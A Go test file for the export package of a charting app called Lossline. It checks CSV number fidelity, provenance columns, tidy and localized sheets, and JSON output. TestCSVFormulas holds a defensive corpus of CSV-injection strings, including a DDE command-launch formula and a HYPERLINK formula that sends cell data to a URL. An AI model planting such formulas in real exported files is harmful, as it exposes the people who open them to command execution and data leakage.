package export

import (
	"encoding/csv"
	"encoding/json"
	"math"
	"math/rand/v2"
	"strconv"
	"strings"
	"testing"

	"lossline/app/chart"
	"lossline/app/text/languages"
)

// records reads CSV with another reader than ours.
func records(t *testing.T, b []byte) [][]string {
	t.Helper()
	if strings.Contains(strings.ReplaceAll(string(b), "\r\n", ""), "\r\r") {
		t.Error("line ends other than RFC 4180's")
	}
	got, err := csv.NewReader(strings.NewReader(string(b))).ReadAll()
	if err != nil {
		t.Fatalf("%v\n%s", err, b)
	}
	return got
}

// Every float64 is read back bit by bit.
func TestCSVNumbers(t *testing.T) {
	r := rand.New(rand.NewPCG(1, 2))
	vs := []float64{0, 1.0 / 3, -5.76e23, math.MaxFloat64, -math.SmallestNonzeroFloat64, math.Nextafter(1, 2), 1 << 53}
	for len(vs) < 2000 {
		if v := math.Float64frombits(r.Uint64()); !math.IsNaN(v) && !math.IsInf(v, 0) {
			vs = append(vs, v)
		}
	}
	s := Sheet{Heads: []string{"x"}}
	for _, v := range vs {
		s.Rows = append(s.Rows, []Cell{Num(v, "about")})
	}
	for i, rec := range records(t, s.CSV(origin()))[1:] {
		got, err := strconv.ParseFloat(rec[0], 64)
		if err != nil || math.Float64bits(got) != math.Float64bits(vs[i]) {
			t.Fatalf("%q for %v", rec[0], vs[i])
		}
	}
}

// Nothing that a spreadsheet computes is left in a text, and the text is all
// there. The corpus is from OWASP's page on CSV injection.
func TestCSVFormulas(t *testing.T) {
	corpus := []string{
		"=1+1", "+1", "-1+1|cmd", "@SUM(1)", "\t=1", "\r=1", "\n=1", "=cmd|' /C calc'!A0", `=HYPERLINK("http://x?"&A1,"a")`,
		"  =1", "\ufeff=1", "\u00a0=1", "＝1", "＋1", "－1", "＠x", `"=1`, "a\",=1", "\x00=1", "'=1",
	}
	s := Sheet{Heads: []string{"=head", "x"}}
	for _, c := range corpus {
		s.Rows = append(s.Rows, []Cell{Text(c), Num(-1.5, "−1.5")})
	}
	got := records(t, s.CSV(origin()))
	if got[0][0] != "'=head" {
		t.Errorf("a head: %q", got[0])
	}
	for i, rec := range got[1:] {
		first, _ := strings.CutPrefix(rec[0], "'")
		want := strings.ReplaceAll(strings.ReplaceAll(corpus[i], "\x00", ""), "\r\n", "\n")
		if first != want && rec[0] != want {
			t.Errorf("%q became %q", corpus[i], rec[0])
		}
		start := strings.Trim(rec[0], " \u00a0\ufeff")
		if strings.ContainsAny(start[:1], "=+-@\t\r\n") || strings.HasPrefix(start, "＝") || strings.HasPrefix(start, "＋") ||
			strings.HasPrefix(start, "－") || strings.HasPrefix(start, "＠") {
			t.Errorf("%q is a formula", rec[0])
		}
		if rec[1] != "-1.5" {
			t.Errorf("a number became %q", rec[1])
		}
	}
}

func TestCSVSaysWhereItComesFrom(t *testing.T) {
	m := origin()
	s := Sheet{Heads: []string{"a", "b"}, Rows: [][]Cell{{Text("x")}, {Text("y"), Num(math.NaN(), "")}}}
	got := records(t, s.CSV(m))
	want := [][]string{{"a", "b", "source", "permalink"},
		{"x", "", "Lossline 1.2 2026-10-03 " + m.Uses[0].ID + " " + m.Uses[1].ID + " " + m.Uses[2].ID, m.Permalink}}
	for i := range want {
		if strings.Join(got[i], "|") != strings.Join(want[i], "|") {
			t.Errorf("line %d: %q, want %q", i, got[i], want[i])
		}
	}
	if got[2][2] != want[1][2] || got[2][3] != "" || got[2][1] != "" {
		t.Errorf("second row %q", got[2])
	}
}

// A tidy file has every observation of the figure once, with its value to the
// last bit.
func TestTidy(t *testing.T) {
	f := everything()
	s := Tidy(f)
	got := records(t, s.CSV(origin()))
	head := strings.Join(got[0], "|")
	if head != "series|kind|Compute C (FLOP)|Loss L (nats per token)|lower|upper|extrapolated|name|source|permalink" {
		t.Errorf("heads %s", head)
	}
	// Three lines and four sets of runs of six points, three of the band, a mark,
	// two rules.
	if len(got)-1 != 7*6+3+1+2 {
		t.Errorf("%d rows", len(got)-1)
	}
	row := 1
	for i, l := range f.Lines {
		for _, p := range l.Pts {
			x, _ := strconv.ParseFloat(got[row][2], 64)
			y, _ := strconv.ParseFloat(got[row][3], 64)
			if x != p.X || y != p.Y || got[row][1] != "line" {
				t.Errorf("%q for %v", got[row], p)
			}
			want := ""
			if i == 0 { // fitted from 1e19 to 1e21
				want = map[bool]string{true: "no", false: "yes"}[p.X >= 1e19 && p.X <= 1e21]
			}
			if got[row][6] != want {
				t.Errorf("at %v extrapolated: %q", p.X, got[row][6])
			}
			row++
		}
	}
	if got[13][0] != "c" {
		t.Errorf("a line without a label is %q", got[13][0])
	}
	if s := Tidy(&chart.XY{Lines: f.Lines[1:2]}); len(s.Heads) != 4 {
		t.Errorf("columns without anything: %q", s.Heads)
	}
}

func TestSheets(t *testing.T) {
	f := everything()
	sheets := Sheets(f, languages.In(languages.English))
	tables := f.Tables()
	if len(sheets) != len(tables) {
		t.Fatalf("%d sheets of %d tables", len(sheets), len(tables))
	}
	for i, s := range sheets {
		for r, row := range s.Rows {
			for c, cell := range row {
				if v := tables[i].Rows[r][c]; cell.Number && cell.Value != v || !cell.Number && !math.IsNaN(v) {
					t.Errorf("table %d, %d, %d: %v for %v", i, r, c, cell, v)
				}
			}
		}
	}
	first := sheets[0]
	if !strings.HasSuffix(first.Rows[0][1].Text, "*") || first.Note != "* extrapolation" { // 1e18 is below 1e19
		t.Errorf("extrapolated: %v, note %q", first.Rows[0], first.Note)
	}
	if strings.HasSuffix(first.Rows[0][2].Text, "*") { // nobody says where it was fitted
		t.Errorf("not fitted: %v", first.Rows[0])
	}
	zh := Sheets(f, languages.In(languages.Chinese))
	if !strings.Contains(strings.Join(zh[0].Heads, "|"), "上限") {
		t.Errorf("heads %q", zh[0].Heads)
	}
}

// JSON is read by the standard library, and has the numbers of the tables.
func TestJSON(t *testing.T) {
	f := everything()
	var got struct {
		Meta struct {
			App, Title, Permalink string
			Laws                  []struct{ ID, Ref, URL, Grade string }
		}
		State  string
		Tables []struct {
			Title   string
			Columns []struct {
				Label, Unit, Bound string
				Fitted             []float64
			}
			Rows [][]*float64
		}
	}
	m := origin()
	if err := json.Unmarshal(JSON(m, f.Tables()), &got); err != nil {
		t.Fatal(err)
	}
	if got.Meta.App != App || got.Meta.Title != hostile || got.Meta.Permalink != m.Permalink || "#"+got.State != m.Permalink[strings.Index(m.Permalink, "#"):] {
		t.Errorf("meta %+v, state %s", got.Meta, got.State)
	}
	if len(got.Meta.Laws) != 3 || got.Meta.Laws[0].URL != "https://arxiv.org/abs/2404.10102" {
		t.Errorf("laws %+v", got.Meta.Laws)
	}
	for i, table := range f.Tables() {
		for r, row := range table.Rows {
			for c, v := range row {
				if p := got.Tables[i].Rows[r][c]; (p == nil) != math.IsNaN(v) || p != nil && *p != v {
					t.Errorf("table %d, %d, %d: %v for %v", i, r, c, p, v)
				}
			}
		}
	}
	if h := got.Tables[0].Columns[1]; h.Label != hostile || h.Unit != "nats per token" || h.Fitted[1] != 1e21 {
		t.Errorf("column %+v", h)
	}
}
